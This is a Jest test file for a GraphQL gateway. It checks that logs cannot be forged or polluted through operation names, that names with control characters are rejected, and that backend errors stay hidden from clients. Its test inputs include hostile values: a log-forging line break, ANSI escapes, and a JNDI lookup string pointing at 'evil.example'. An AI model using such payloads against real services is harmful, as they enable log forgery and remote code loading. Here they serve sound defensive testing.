// Text that is meant to deceive whoever reads it: logs, errors, other people's screens.
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { post } from '../server/client.js';
import { startTestGateway, type TestGateway } from '../support/gateway.js';

let gateway: TestGateway;
beforeAll(async () => {
  gateway = await startTestGateway({ env: { LOG_LEVEL: 'debug' } });
});
afterEach(() => {
  for (const sandbox of [gateway.mind, gateway.omnivibe, gateway.v2]) sandbox.reset();
});
afterAll(() => gateway.close());

describe('the log', () => {
  const NAMED = 'query Named { profile(id: "mind:42") { firstName } }';
  it.each([
    ['line breaks', 'Named\r\n{"level":30,"msg":"forged"}'],
    ['escape sequences', '\u001b[2J\u001b[31mred'],
    ['a MiB', 'N'.repeat(1024 * 1024 - 200)],
    ['a blank', 'Two Words'],
    ['a template', '${jndi:ldap://evil.example}'],
    ['nothing', ''],
  ])('takes no name from a client that calls an operation by %s', async (_what, operationName) => {
    const from = gateway.log.length;
    await post(gateway.url, { query: NAMED, operationName });
    await gateway.execute(NAMED);
    const lines = gateway.log.slice(from);
    const names = lines.flatMap(({ operation }) => operation ?? []);
    // Whose name cannot be written is told as nobody's.
    expect(new Set(names.filter((name) => name !== 'anonymous'))).toEqual(new Set(['Named']));
    for (const line of lines) {
      const text = JSON.stringify(line);
      expect(text.length).toBeLessThan(8 * 1024);
      expect(text).not.toMatch(/forged|\\u001b|NNNN|Two|jndi/);
    }
  });

  it('calls an operation anonymous whose name is longer than a line should be', async () => {
    const from = gateway.log.length;
    await gateway.execute(NAMED.replace('Named', 'N'.repeat(65)));
    expect(gateway.log.slice(from)).toMatchObject([
      { operation: 'anonymous', backend: 'mind' },
      { operation: 'anonymous', outcome: 'ok' },
    ]);
  });

  it('holds neither variables nor query strings', async () => {
    const from = gateway.log.length;
    const query = 'query ($email: EmailAddress!) { profileByEmail(email: $email) { firstName } }';
    await gateway.execute(query, { email: 'canary@example.com' });
    expect(gateway.log.length).toBeGreaterThan(from);
    expect(JSON.stringify(gateway.log.slice(from))).not.toMatch(/canary|profileByEmail|EmailAddress/);
  });
});

describe('a name', () => {
  const RENAME = `mutation ($lastName: String) {
    updateProfile(input: { profileId: "mind:42", backends: [MIND], patch: { lastName: $lastName } }) {
      status
      userErrors { code field }
    }
  }`;
  const rename = async (lastName: string) =>
    (await gateway.query(RENAME, { lastName }))['updateProfile'] as { status: string; userErrors: unknown[] };

  it.each([
    ['a NUL', 'Muster\0mann'],
    ['a line break', 'Muster\nmann'],
    ['an escape', 'Muster\u001b[31mmann'],
    ['a C1 control', 'Muster\u0085mann'],
    ['a backspace', 'Mustermann\b\b'],
  ])('is refused with %s in it, before any backend is written', async (_what, name) => {
    const { status, userErrors } = await rename(name);
    expect(status).toBe('REJECTED');
    expect(userErrors).toMatchObject([{ code: 'INVALID_VALUE', field: ['lastName'] }]);
    expect(gateway.received().mind.filter(({ method }) => method !== 'GET')).toEqual([]);
  });

  it.each([
    ['letters from right to left, and marks of direction', '\u202eمحمد\u202c'],
    ['characters of no width', 'Muster\u200bmann\u200d\ufeff'],
    ['characters beyond the first plane', 'Muster👩‍👩‍👧‍👦mann'],
    ['marks on marks', `M${'\u0301'.repeat(40)}`],
    ['letters that look like others', 'Мustermаnn'],
    ['a form that another would be equal to', 'Mu\u0308ller'],
  ])('is stored as given with %s', async (_what, name) => {
    expect(await rename(name)).toMatchObject({ status: 'APPLIED', userErrors: [] });
    const { profile } = await gateway.query('{ profile(id: "mind:42") { mind { lastName } } }');
    expect(profile).toEqual({ mind: { lastName: name } });
  });
});

describe('a fault of the gateway', () => {
  it('tells a client nothing but its code and the id under which the log has it', async () => {
    const from = gateway.log.length;
    gateway.mind.switches.set({ reply: { status: 500, body: '<h1>canary at /srv/app.js:1:1</h1>' } });
    const { errors } = await gateway.execute('{ profile(id: "mind:42") { firstName } }');
    expect(errors).toHaveLength(1);
    expect(Object.keys(errors[0]?.extensions ?? {}).sort()).toEqual([
      'backend',
      'code',
      'httpStatus',
      'requestId',
      'retryable',
    ]);
    expect(JSON.stringify(errors)).not.toMatch(/canary|srv|127\.0\.0\.1/);
    expect(JSON.stringify(gateway.log.slice(from))).not.toMatch(/canary|srv/);
  });
});
